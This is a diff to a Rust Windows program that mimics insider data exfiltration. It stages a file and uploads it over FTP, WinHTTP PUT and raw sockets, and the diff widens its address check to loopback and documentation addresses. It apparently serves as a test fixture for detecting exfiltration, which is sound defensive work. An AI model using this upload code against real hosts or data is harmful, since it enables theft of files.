@@ -1,7 +1,8 @@
 //! A Windows program that does what an insider does: it stages an archive and uploads it.
 //!
-//! `stager FILE [ftp=IP:PORT] [put=IP:PORT] [raw=IP:PORT] [wait=SECONDS]`, with loopback addresses only. It writes FILE, and sends
-//! it by WinINet's `FtpPutFileW`, by WinHTTP's `PUT`, and over a plain socket.
+//! `stager FILE [ftp=IP:PORT] [put=IP:PORT] [socket=IP:PORT] [raw=IP:PORT] [wait=SECONDS]`, with loopback addresses, and those of
+//! documentation (203.0.113.0/24), alone. It writes FILE, and sends it by WinINet's `FtpPutFileW`, by WinHTTP's `PUT`, by a
+//! `PUT` over a plain socket, and over a plain socket as it is.
 
 #![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing, missing_docs, unsafe_code)]
 
@@ -50,11 +51,20 @@ mod windows {
                 continue;
             }
             let address: SocketAddr = value.parse().unwrap();
-            assert!(address.ip().is_loopback(), "loopback only");
+            let allowed = address.ip().is_loopback() || value.starts_with("203.0.113.");
+            assert!(allowed, "loopback and documentation addresses only");
             match kind {
                 "ftp" => ftp(&file, address),
                 "put" => put(&file, address),
-                _ => raw(&file, address),
+                "socket" => {
+                    let head = format!(
+                        "PUT /upload/socket-{} HTTP/1.1\r\nHost: {}\r\nContent-Length: {SIZE}\r\nConnection: close\r\n\r\n",
+                        name(&file),
+                        address.ip()
+                    );
+                    raw(&file, address, head.as_bytes());
+                }
+                _ => raw(&file, address, b""),
             }
             println!("uploaded by {kind}");
         }
@@ -89,7 +99,7 @@ mod windows {
 
     fn ftp(file: &str, address: SocketAddr) {
         let (agent, host) = (wide("stager"), wide(&address.ip().to_string()));
-        let (user, password) = (wide("outfall"), wide("outfall"));
+        let (user, password) = (wide("anonymous"), wide("stager@example.com"));
         let (local, remote) = (wide(file), wide(&name(file)));
         // SAFETY: every text ends in a NUL and outlives the calls; handles are closed once, in the order of their use.
         unsafe {
@@ -141,11 +151,12 @@ mod windows {
         }
     }
 
-    fn raw(file: &str, address: SocketAddr) {
+    fn raw(file: &str, address: SocketAddr, head: &[u8]) {
         let mut open = File::open(file).unwrap();
         let mut content = Vec::new();
         open.read_to_end(&mut content).unwrap();
         let mut socket = TcpStream::connect(address).unwrap();
+        socket.write_all(head).unwrap();
         socket.write_all(&content).unwrap();
         std::thread::sleep(PAUSE);
         drop(socket);
